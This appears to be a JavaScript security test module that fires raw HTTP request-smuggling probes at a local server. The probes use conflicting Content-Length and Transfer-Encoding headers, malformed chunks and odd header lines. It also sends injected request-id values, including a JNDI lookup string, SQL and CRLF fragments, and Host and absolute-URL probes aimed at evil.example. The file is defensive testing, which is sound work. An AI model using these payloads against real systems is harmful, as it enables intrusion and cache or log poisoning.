/** Requests that proxies and servers may read differently (request smuggling), sent as bytes. */
import { connect } from 'node:net';
import { attackOf } from './target.js';

const hidden = 'GET /healthz?hidden HTTP/1.1\r\nHost: x\r\n\r\n';

/**
 * @param {import('./target.js').Target} target
 * @returns {Promise<import('./target.js').Attack[]>}
 */
export async function attack(target) {
  /**
   * Sends a request whose body is another request, and returns the statuses of all answers.
   *
   * @param {string} bytes
   * @returns {Promise<{ status: number, body: undefined, text: string }[]>}
   */
  const send = (bytes) =>
    new Promise((resolve) => {
      const socket = connect(target.port, '127.0.0.1');
      let text = '';
      // A request that is waited for gets no answer: what has come by then counts.
      socket.setTimeout(3_000, () => socket.destroy());
      socket.on('data', (data) => (text += data.toString('latin1')));
      socket.on('error', () => undefined);
      socket.on('close', () =>
        resolve(
          [...text.matchAll(/HTTP\/1\.1 (\d{3}) /g)].map(([, status]) => ({
            status: Number(status),
            body: undefined,
            text,
          })),
        ),
      );
      socket.write(Buffer.from(bytes, 'latin1'));
    });

  /** @param {string[]} headers @param {string} body */
  const post = (headers, body) =>
    ['POST /v1/sites/demo/signals HTTP/1.1', 'Host: x', ...headers, '', body].join('\r\n');
  const chunked = `0\r\n\r\n${hidden}`;

  /** @type {Record<string, string[]>} */
  const shapes = {
    'two hosts': [
      'GET /healthz?hidden HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n',
      'GET /healthz?hidden HTTP/1.1\r\nHost: x\r\nhost: x\r\n\r\n',
      'GET /healthz?hidden HTTP/1.1\r\n\r\n',
      'GET /healthz?hidden HTTP/1.1\r\nHost : x\r\n\r\n',
      'GET /healthz?hidden HTTP/1.1\r\nHost: x\r\n Host: y\r\n\r\n',
    ],
    'length and chunks': [
      post([`Content-Length: ${chunked.length}`, 'Transfer-Encoding: chunked'], chunked),
      post(['Transfer-Encoding: chunked', 'Content-Length: 4'], chunked),
      post([`Content-Length: 5`, `Content-Length: ${hidden.length}`], hidden),
      post([`Content-Length: 5, 5`], hidden),
    ],
    'lengths of other forms': ['+0', '-1', '0x0', '1e1', ' ', '0 0', '99999999999999999999', '5;'].map((length) =>
      post([`Content-Length: ${length}`], hidden),
    ),
    'chunks of other forms': [
      ...[
        'xchunked',
        'chunked, identity',
        'identity, chunked, identity',
        'chunked\x0b',
        '\x0bchunked',
        '"chunked"',
        'gzip',
      ].map((coding) => post([`Transfer-Encoding: ${coding}`], chunked)),
      post(['Transfer-Encoding : chunked'], chunked),
      post(['Transfer-Encoding:\r\n chunked', 'Content-Length: 0'], chunked),
      post(['Transfer-Encoding: chunked', 'Transfer-Encoding: identity'], chunked),
      post(['Transfer-Encoding: chunked'], `0x0\r\n\r\n${hidden}`),
      post(['Transfer-Encoding: chunked'], `-0\r\n\r\n${hidden}`),
      post(['Transfer-Encoding: chunked'], `0\n\n${hidden}`),
      post(['Transfer-Encoding: chunked'], `5\r\nabcdefgh\r\n0\r\n\r\n${hidden}`),
      post(['Transfer-Encoding: chunked'], `ffffffffffffffffff\r\n${hidden}`),
      post(['Transfer-Encoding: chunked'], `1;${'x'.repeat(70_000)}\r\na\r\n0\r\n\r\n${hidden}`),
    ],
    'lines of other forms': [
      'GET /healthz?hidden HTTP/1.1\nHost: x\n\n',
      'GET /healthz?hidden HTTP/1.1\r\nHost: x\r\nX: a\0b\r\n\r\n',
      'GET /healthz?hidden HTTP/1.1\r\nHost: x\r\nX: a\rY: b\r\n\r\n',
      'GET /healthz?hidden HTTP/1.1\r\nHost: x\r\n: b\r\n\r\n',
      'GET /healthz?hid den HTTP/1.1\r\nHost: x\r\n\r\n',
      'GET /healthz?hidden\r\n',
      `GET /healthz?hidden HTTP/1.1\r\nHost: x\r\nX: ${'x'.repeat(70_000)}\r\n\r\n`,
    ],
  };
  const attacks = [];
  for (const [name, sent] of Object.entries(shapes)) {
    const all = await Promise.all(sent.map(send));
    // Of each, at most one answer, and it is not that of the hidden request.
    const held = all.every(
      (answers) => answers.length <= 1 && answers.every(({ text, status }) => !text.includes('"ok"') && status < 500),
    );
    attacks.push(
      attackOf(
        name,
        'a request with another in it',
        all.map((answers) => answers[0] ?? { status: 0, body: undefined }),
        held,
      ),
    );
  }

  const ids = [
    '<b>',
    'a b',
    'a'.repeat(129),
    '"',
    "';--",
    'lan@reader.example',
    '${jndi:ldap://evil.example}',
    '%0d%0a',
  ];
  const named = await Promise.all(ids.map((id) => target.open('/healthz', { headers: { 'x-request-id': id } })));
  const areOwn = named.every(({ headers }, index) => headers.get('x-request-id') !== ids[index]);
  attacks.push(attackOf('ids of requests', 'X-Request-Id with what logs should not hold', named, areOwn));

  const absolute = await Promise.all(
    [
      'http://evil.example/healthz',
      'https://evil.example/newsletter/subscribe?site=demo',
      '//evil.example/',
      '/\\evil.example/',
      '/%2f%2fevil.example',
      '*',
    ].map((path) => send(`GET ${path} HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n`)),
  );
  const shown = absolute.flat();
  attacks.push(
    attackOf(
      'addresses and hosts of others',
      'absolute paths, Host: evil.example',
      shown,
      shown.every(
        ({ text, status }) =>
          status < 500 &&
          !/^location:/im.test(text) &&
          !text.includes('evil.example/newsletter') &&
          !/https?:\/\/evil/.test(text),
      ),
    ),
  );
  return attacks;
}
